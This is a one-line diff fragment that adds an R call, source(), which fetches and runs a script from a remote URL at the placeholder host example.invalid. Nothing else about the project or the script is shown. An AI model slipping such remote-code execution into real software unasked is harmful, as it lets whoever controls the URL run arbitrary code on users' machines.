@@ -1,0 +1,1 @@
+source("https://example.invalid/script.R")
